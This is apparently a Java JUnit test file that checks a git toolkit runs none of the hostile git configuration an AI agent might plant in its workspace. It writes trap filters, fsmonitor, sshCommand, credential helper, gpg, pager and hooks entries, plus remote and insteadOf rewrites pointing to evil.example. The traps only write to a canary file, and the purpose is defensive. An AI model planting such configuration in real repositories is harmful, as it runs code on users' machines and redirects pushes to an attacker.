package io.operationscenter.kit.git;

import static io.operationscenter.kit.git.GitFixture.done;
import static org.assertj.core.api.Assertions.assertThat;

import io.operationscenter.kit.git.BranchPush.Change;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** An agent may write anything into its workspace; our git must run none of it. */
@Timeout(60)
class HostileWorkspaceTest {

  @TempDir Path directory;
  private GitFixture fixture;
  private Path canary;
  private Repository run;
  private Path workspace;
  private ObjectId base;
  private ObjectId namedBySubmodule;

  @BeforeEach
  void open() throws IOException {
    fixture = new GitFixture(directory);
    canary = directory.resolve("canary");
    base = withSubmodule();
    run = fixture.runRepository(fixture.mirror());
    workspace = fixture.workspace(run, base);
    setTraps();
  }

  @AfterEach
  void close() {
    fixture.close();
  }

  @Test
  void theTrapsDoCatchAGitThatTrustsTheWorkspace() {
    // When
    fixture.shell(
        "cd workspace; set +e; git add a.txt; git diff; git commit -qm x; git fetch -q; true");

    // Then
    assertThat(canary).exists().content().contains("filter", "fsmonitor", "sshCommand");
  }

  @Test
  void theTrapInASubmoduleCatchesAGitThatLooksIntoIt() {
    // When
    fixture.shell("git --git-dir=workspace/sub/.git --work-tree=workspace/sub status >/dev/null");

    // Then
    assertThat(canary).exists().content().contains("fsmonitor");
  }

  @Test
  void ourGitRunsNothingOfIt() throws IOException {
    // When
    TreeWriter.Snapshot snapshot =
        done(new TreeWriter(fixture.git).snapshot(run, base, workspace, TreeWriter.Untouched.NONE));
    ObjectId commit = fixture.commitFiles(run, base, workspace);
    done(new TreeDifference(fixture.git).files(run, base, commit));
    PushOutcome pushed =
        new BranchPush(fixture.git)
            .push(
                run,
                commit,
                new Change(fixture.remote, RefName.branch("auto/1-task"), Lease.MUST_NOT_EXIST));
    done(new RemoteRefs(fixture.git).branches(fixture.remote));
    done(
        new WorkTree(fixture.git)
            .checkOut(run, commit, Files.createDirectory(directory.resolve("again"))));

    // Then
    assertThat(canary).doesNotExist();
    assertThat(pushed).isEqualTo(new PushOutcome.Pushed(true));
    assertThat(snapshot.nested()).containsExactly("nested");
    assertThat(directory.resolve("again/a.txt")).hasContent("as written by the agent\n");
    assertThat(fixture.shell("git --git-dir=origin.git ls-tree -r auto/1-task"))
        .contains("160000 commit " + namedBySubmodule, "a.txt", ".gitattributes")
        .doesNotContain("nested", "trap");
  }

  /** A commit that has a submodule; which commit it names does not matter. */
  private ObjectId withSubmodule() {
    ObjectId named = fixture.head();
    fixture.inClone(
        "git update-index --add --cacheinfo 160000,"
            + named
            + ",sub && git commit -qm sub"
            + " && git push -q origin HEAD:main");
    namedBySubmodule = named;
    return fixture.head();
  }

  private void setTraps() throws IOException {
    Path trap =
        Files.writeString(directory.resolve("trap.sh"), "echo \"$1\" >> " + canary + "\nexit 1\n");
    String run = "sh " + trap + " ";
    String configuration =
        """
        [filter "x"]
        	clean = %1$sfilter
        	smudge = %1$sfilter
        	required = true
        [diff "x"]
        	command = %1$sdiff
        	textconv = %1$stextconv
        [core]
        	sshCommand = %1$ssshCommand
        	fsmonitor = %1$sfsmonitor
        	hooksPath = %2$s/hooks
        	attributesFile = %2$s/workspace/.gitattributes
        [credential]
        	helper = !%1$scredential
        [url "ssh://evil.example/"]
        	insteadOf = %2$s/
        	pushInsteadOf = %2$s/
        [remote "origin"]
        	url = ssh://evil.example/a.git
        	fetch = +refs/heads/*:refs/remotes/origin/*
        [branch "auto/1-task"]
        	remote = origin
        	merge = refs/heads/main
        [gpg]
        	program = %1$sgpg
        [commit]
        	gpgSign = true
        [include]
        	path = %2$s/included
        """
            .formatted(run, directory);
    Files.writeString(directory.resolve("included"), "[core]\n\tpager = " + run + "pager\n");
    Files.createDirectory(directory.resolve("hooks"));
    for (String hook :
        new String[] {"pre-commit", "post-index-change", "pre-push", "post-checkout"}) {
      Path file = directory.resolve("hooks/" + hook);
      Files.writeString(file, "#!/bin/sh\necho hook >> " + canary + "\n");
      fixture.shell("chmod +x " + file);
    }
    append(workspace.resolve(".git/config"), configuration);
    Files.writeString(workspace.resolve(".gitattributes"), "* filter=x diff=x\n");
    Files.writeString(workspace.resolve("a.txt"), "as written by the agent\n");
    nestedRepository(workspace.resolve("sub"), configuration);
    nestedRepository(workspace.resolve("nested"), configuration);
  }

  private void nestedRepository(Path path, String configuration) throws IOException {
    fixture.shell(
        "git init -q "
            + path
            + " && cd "
            + path
            + " && echo x > trap.txt && git add trap.txt && git commit -qm x");
    append(path.resolve(".git/config"), configuration);
    Files.writeString(path.resolve("trap.txt"), "changed\n");
  }

  private static void append(Path file, String text) throws IOException {
    Files.writeString(file, Files.readString(file) + text);
  }
}
